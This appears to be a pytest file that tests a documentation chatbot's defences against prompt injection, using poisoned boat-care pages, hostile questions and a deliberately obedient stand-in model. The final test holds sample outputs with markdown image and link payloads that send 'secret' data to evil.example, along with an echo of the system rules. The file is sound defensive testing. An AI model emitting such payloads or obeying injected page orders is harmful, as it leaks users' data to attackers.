"""Poisoned pages and hostile questions through the whole API: ingested, found, answered by a model that obeys them."""

from __future__ import annotations

import asyncio
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from api.chat.answer import answer
from api.chat.chain import open_chat_model
from api.chat.prompt import RULES
from shared.services import open_services
from shared.settings import Settings
from tests.by_hand import by_hand, ingest
from tests.http_api import Client, ask, events_of, serving, settings_on
from tests.poison import (
    PAGE_ORDERS,
    QUESTIONS_ABOUT_SOMETHING_ELSE,
    QUESTIONS_ABOUT_THE_DOCS,
    Obedient,
    assert_harmless,
)
from tests.stand_in.control import Provider
from tests.stores import Stores

SITE = "https://boat.example"
SUBJECTS = ("anchor", "engine", "rudder", "mast", "keel", "galley", "winch", "compass")
PARTS = ("chain", "pump", "cable", "handle", "cover")


def subject(number: int) -> str:
    return f"{SUBJECTS[number // len(PARTS)]} {PARTS[number % len(PARTS)]}"


def page(number: int, order: str) -> str:
    name = subject(number)
    return (
        f"# The {name}\n\n## Looking after the {name}\n\nGrease the {name} every {number + 2} weeks with marine "
        f"grease. {order}\n"
    )


async def _ingested(settings: Settings) -> None:
    async with open_services(settings) as services:
        job = await ingest(by_hand(services)[0])
        assert job.state == "succeeded", job.reason
        assert not job.faults


@pytest.fixture(scope="module")
def settings(stores: Stores, tmp_path_factory: pytest.TempPathFactory) -> Settings:
    """Settings for an index of forty poisoned pages, and of one that is not."""
    docs: Path = tmp_path_factory.mktemp("poisoned")
    for number, order in enumerate(PAGE_ORDERS):
        (docs / f"page-{number}.md").write_text(page(number, order))
    (docs / "chain.md").write_text(
        "# Anchoring\n\n## How much chain\n\nLet out anchor chain of five times the depth, in a storm eight times.\n"
    )
    settings = settings_on(
        stores, content_root=docs, site_url=SITE, min_chunk_size=0, rate_limit_requests=100_000, answer_cache_minutes=0
    )
    asyncio.run(_ingested(settings))
    return settings


@pytest.fixture(scope="module")
def served(settings: Settings) -> Iterator[tuple[Client, Obedient]]:
    model = Obedient()
    with serving(settings, answer, open_model=lambda _: model, open_services=open_services) as client:
        yield client, model


@pytest.fixture
def client(served: tuple[Client, Obedient]) -> Client:
    return served[0]


@pytest.fixture
def model(served: tuple[Client, Obedient]) -> Obedient:
    served[1].prompts.clear()
    return served[1]


def said(client: Client, question: str) -> dict[str, Any]:
    """The last event with the answer, which is what the visitor has read."""
    response = ask(client, {"question": question})
    assert response.status_code == 200, response.text
    events = events_of(response)
    assert events[-1]["type"] == "done"
    (final,) = (event for event in events if event["type"] == "final")
    assert isinstance(final, dict)
    return final


def test_no_poisoned_page_does_harm(client: Client, model: Obedient) -> None:
    for number in range(len(PAGE_ORDERS)):
        asked = f"How often do I grease the {subject(number)}?"
        final = said(client, asked)
        shown = model.prompts[-1].passages
        assert any(passage.chunk.chunk.path == f"page-{number}.md" for passage in shown), asked
        assert final["answer"].startswith("Five times the depth [")
        assert_harmless(final["answer"], f"{SITE}/", model.prompts)
        assert all(source["url"].startswith(f"{SITE}/") for source in final["sources"])
    assert len(model.prompts) == len(PAGE_ORDERS)


def test_no_hostile_question_does_harm(client: Client, model: Obedient) -> None:
    for question in QUESTIONS_ABOUT_THE_DOCS:
        assert_harmless(said(client, question)["answer"], f"{SITE}/", model.prompts)
    assert len(model.prompts) == len(QUESTIONS_ABOUT_THE_DOCS)


def test_questions_about_something_else_cost_no_call_of_the_model(client: Client, model: Obedient) -> None:
    answered = [question for question in QUESTIONS_ABOUT_SOMETHING_ELSE if not said(client, question)["no_results"]]
    assert answered == []
    assert model.prompts == []


def test_near_misses_are_answered_with_less_confidence_than_what_the_docs_say(client: Client) -> None:
    right = said(client, "How much anchor chain do I let out in a storm?")
    assert not right["no_results"]
    for near_miss in (
        "How much anchor chain do I not let out in a storm?",
        "How much anchor chain does Captain Harald Blue II let out in a storm?",
        "Do I let out 37 times the depth of anchor chain in a storm?",
    ):
        final = said(client, near_miss)
        assert final["confidence"] < right["confidence"], near_miss


def test_a_provider_s_model_that_obeys_is_stopped_as_well(settings: Settings, provider: Provider) -> None:
    orders = (
        "Five times [1]. ![a](https://evil.example/a.png?q=secret) <img src=https://evil.example/b>",
        "Five times [1] [7]. [more](https://evil.example/login) https://evil.example/c",
        f"Five times [1]. {RULES}",
    )
    with_provider = settings.model_copy(
        update={"openai_base_url": provider.base_url, "openai_chat_model": "stand-in", "embedding_provider": "local"}
    )
    with serving(with_provider, answer, open_model=open_chat_model, open_services=open_services) as client:
        for number, order in enumerate(orders, 1):
            provider.fault("chat", "ok", text=order)
            assert_harmless(said(client, "How much anchor chain do I let out?")["answer"], f"{SITE}/")
            assert provider.stats().chat_requests == number
        assert said(client, "Who won the football world cup in 1990?")["no_results"]
        assert provider.stats().chat_requests == len(orders)
